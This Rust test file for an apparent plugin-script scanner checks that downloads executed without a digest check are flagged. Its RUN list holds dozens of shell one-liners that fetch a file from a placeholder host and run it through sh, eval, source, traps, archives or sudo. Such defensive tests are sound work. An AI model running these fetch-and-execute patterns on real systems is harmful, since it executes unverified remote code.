//! Downloads that are stored in files: run through functions, embedded shell code, traps, archives and copies, or compared
//! with a digest first.

use plugward_scanner::Profile;
use plugward_types::Severity;

use crate::common::report;

/// Each runs a download without comparing it with anything.
const RUN: &[&str] = &[
    "fetch(){ curl -o f https://h.example/f; }; fetch; chmod +x f; ./f",
    "dl(){\n  curl -fsSL -o \"$2\" \"$1\"\n  echo done\n}\ndl https://h.example/f /tmp/f\nsh /tmp/f",
    "run(){ ./f; }\ncurl -o f https://h.example/f\nrun",
    "install(){ chmod +x $T/f; }\ndownload(){ curl -o $T/f https://h.example/f; }\nmain(){ download; install; }\nmain \"$@\"",
    "sh -c 'curl -o f https://h.example/f'; chmod +x f; ./f",
    "curl -o f https://h.example/f; sh -c './f'",
    "bash -c 'curl -o /tmp/f https://h.example/f && bash /tmp/f'",
    "(curl -o f https://h.example/f); ./f",
    "{ curl -o f https://h.example/f; }; ./f",
    "for i in 1 2; do curl -o f https://h.example/f && break; done; sh f",
    "if curl -o f https://h.example/f; then sh f; fi",
    "while ! curl -o f https://h.example/f; do :; done; python3 f",
    "curl -o f https://h.example/f && chmod +x f && ./f",
    "bash <<EOF\ncurl -o f https://h.example/f\nEOF\nsh f",
    "bash <<'EOF'\ncurl -o f https://h.example/f\nsh f\nEOF",
    "trap 'sh /tmp/f' EXIT\ncurl -o /tmp/f https://h.example/f",
    "trap fin EXIT\nfin(){ sh /tmp/f; }\ncurl -o /tmp/f https://h.example/f",
    "eval \"curl -o f https://h.example/f\"; sh f",
    "eval \"$(curl -o f https://h.example/f; echo sh f)\"; sh f",
    "F=/tmp/f; curl -o \"$F\" https://h.example/f; sh \"$F\"",
    "C=curl; $C -o f https://h.example/f; sh f",
    "curl -o f https://h.example/f; install -m755 f /usr/local/bin/f",
    "wget -O f https://h.example/f; mv f g; sh g",
    "wget -O f https://h.example/f; cp f /usr/local/bin; f2=1; /usr/local/bin/f",
    "wget -O f https://h.example/f; ln -s f g; ./g",
    "curl -o f.tgz https://h.example/f; tar xzf f.tgz -C /tmp/d; /tmp/d/run.sh",
    "curl https://h.example/f | tar xz -C /tmp/d; /tmp/d/run.sh",
    "curl -O https://h.example/tool-1.2.tar.gz; tar xzf tool-1.2.tar.gz; cd tool-1.2; ./configure",
    "wget https://h.example/t.zip; unzip t.zip -d /opt/t; sh /opt/t/i.sh",
    "curl -o f.gz https://h.example/f; gunzip f.gz; chmod +x f",
    "curl -o f https://h.example/f; cat f | sh",
    "curl -o f https://h.example/f; eval \"$(cat f)\"",
    "curl -o f https://h.example/f; bash -c \"$(cat f)\"",
    "curl -o f https://h.example/f; sh < f",
    "curl -o f https://h.example/f; . <(cat f)",
    "curl -o f https://h.example/f; base64 -d f > g; sh g",
    "curl -o f https://h.example/f; java -jar f",
    "curl -o f https://h.example/f; node --require ./f own.js",
    "curl -o f https://h.example/f; bash --rcfile f",
    "curl -o /tmp/f https://h.example/f; cd /tmp; ./f",
    "cd /tmp; curl -o f https://h.example/f; cd /; /tmp/f",
    "curl -o d/f https://h.example/f; chmod +x d/*; echo ok",
    "curl -o d/f https://h.example/f; chmod -R +x d",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f | cut -d' ' -f1)\necho $sum\nsh f",
    "curl -o f https://h.example/f\necho $(sha256sum f)\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\n[ \"$sum\" = abc ] || echo bad\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\nif [ \"$sum\" != abc ]; then echo warning; fi\nsh f",
    "curl -o f https://h.example/f\nsha256sum -c sums f || true\nsh f",
    "curl -o f https://h.example/f\nsha256sum f | tee log\nsh f",
    "curl -o f https://h.example/f; sha256sum f > f.sum; sh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\n[ \"$sum\" = abc ]\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum g)\n[ \"$sum\" = abc ] || exit 1\nsh f",
    "sudo -E curl -o f https://h.example/f; sudo bash f",
    "curl -o f https://h.example/f; timeout 5 env A=1 ./f",
    "x=$(mktemp -d); curl -o $x/f https://h.example/f; $x/f",
    "curl -o f https://h.example/f; nohup ./f &",
    "t=/tmp; (cd $t && curl -o f https://h.example/f && sh f)",
    "if ! curl -o f https://h.example/f; then exit; else sh f; fi",
    "curl -s https://h.example/f > f; source ./f",
    "curl -o f https://h.example/f; find . -name f -exec sh {} \\;; sh f",
    "get() { wget -q -O \"$1\" https://h.example/f; }\nrun() { bash \"$1\"; }\nget f\nrun f",
    "f() { g; }\ng() { h; }\nh() { curl -o x https://h.example/f; }\nf\nsh x",
    "case $1 in a) curl -o f https://h.example/f;; esac; sh f",
    "curl -o f https://h.example/f; su -c 'sh f' root",
];

/// Each downloads a file and runs nothing of it, or only after a comparison.
const HARMLESS: &[&str] = &[
    "curl -o f https://h.example/f",
    "fetch(){ curl -o f https://h.example/f; }; fetch; cat f",
    "curl -o f.json https://h.example/f; jq . f.json; sh own.sh",
    "curl -o f https://h.example/f; sh -c 'cat f'",
    "curl -o f https://h.example/f\nsum=$(sha256sum f | cut -d' ' -f1)\nif [ \"$sum\" != abc ]; then echo bad; exit 1; fi\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\n[ \"$sum\" = abc ] || exit 1\nsh f",
    "curl -o f https://h.example/f\nsum=$(sha256sum f)\n[[ $sum == abc* ]] || { echo bad; exit 1; }\nsh f",
    "set -e\ncurl -o f https://h.example/f\nsum=$(sha256sum f)\n[ \"$sum\" = abc ]\nsh f",
    "curl -o f https://h.example/f\nsha256sum f | grep -q abc || exit 1\nsh f",
    "curl -o f https://h.example/f\necho \"abc  f\" | sha256sum -c - || exit 1\nsh f",
    "set -eu\ncurl -o f https://h.example/f\necho \"abc  f\" | sha256sum -c -\nchmod +x f",
    "verify(){ [ \"$(sha256sum \"$1\" | cut -d' ' -f1)\" = \"$2\" ] || exit 1; }\ncurl -o f https://h.example/f\nverify f abc\nsh f",
    "verify(){\n  local got\n  got=$(sha256sum \"$1\")\n  test \"$got\" = \"$2\" || exit 1\n}\ncurl -o f https://h.example/f\nverify f abc\nsh f",
    "curl -o f https://h.example/f\ncase $(sha256sum f) in abc*) sh f;; *) exit 1;; esac",
    "curl -o f https://h.example/f; sha256sum f > f.sum; cmp f.sum good.sum && sh f",
    "curl -o f https://h.example/f; gpg --verify f.sig f && sh f",
    "curl -o a.tgz https://h.example/f; tar xzf a.tgz; cat a/README",
    "curl -o f https://h.example/f; tar czf b.tgz f; sh own.sh",
    "curl -o /tmp/f https://h.example/f; cd /tmp; ./own",
    "curl -o f https://h.example/f; chmod 644 f",
    "mv own f; sh f",
    "trap 'rm -f /tmp/f' EXIT\ncurl -o /tmp/f https://h.example/f",
    "bash <<EOF\ncurl -o f https://h.example/f\nEOF\nsh own.sh",
    "curl -o f https://h.example/f; python3 own.py f",
    "curl -o f https://h.example/f; install -m644 f /etc/f.conf",
    "curl -o f https://h.example/f; cp f d; cat d/f",
    "x=$(curl https://h.example/f); echo \"$x\" | jq .",
    "read -r got _ < <(sha256sum f); [ \"$got\" = abc ] || exit; sh f",
    "curl -o f https://h.example/f\nread -r got _ < <(sha256sum f)\n[ \"$got\" = abc ] || exit 1\nsh f",
    "curl -o f https://h.example/f\nif sha256sum f | grep abc; then\n  sh f\nfi",
];

fn rules(text: &str) -> Vec<(String, Severity)> {
    let text = format!("#!/bin/sh\n{text}\n");
    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
    let all = report.findings().iter();
    let inside = |finding: &&plugward_types::Finding| finding.span.end <= text.len();
    all.filter(inside).map(|finding| (finding.rule.as_str().to_owned(), finding.severity)).collect()
}

#[test]
fn what_is_fetched_is_followed_to_where_it_runs() {
    for text in RUN {
        let found = rules(text);
        assert!(found.contains(&("exec/drop-run".to_owned(), Severity::Danger)), "{text}: {found:?}");
    }
}

#[test]
fn what_is_compared_or_not_run_is_no_danger() {
    for text in HARMLESS {
        let found = rules(text).into_iter();
        let danger: Vec<_> = found.filter(|(_, severity)| *severity == Severity::Danger).collect();
        assert!(danger.is_empty(), "{text}: {danger:?}");
    }
}

#[test]
fn a_finding_stands_where_the_file_is_run() {
    let text = "curl -o f https://h.example/f\nrun() { ./f; }\nrun\n";
    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
    let all = report.findings().iter().filter(|finding| finding.rule.as_str() == "exec/drop-run");
    let places: Vec<&str> = all.map(|finding| &text[finding.span.start..finding.span.end]).collect();
    assert_eq!(places, ["./f"]);
}

#[test]
fn functions_that_call_each_other_end() {
    let text = "curl -o f https://h.example/f\na() { b \"$1\" x; b \"$1\" y; }\nb() { a \"$1\" x; a \"$1\" z; sh f; }\na 1\n";
    assert!(rules(&text.repeat(40)).iter().any(|(rule, _)| rule == "exec/drop-run"));
}
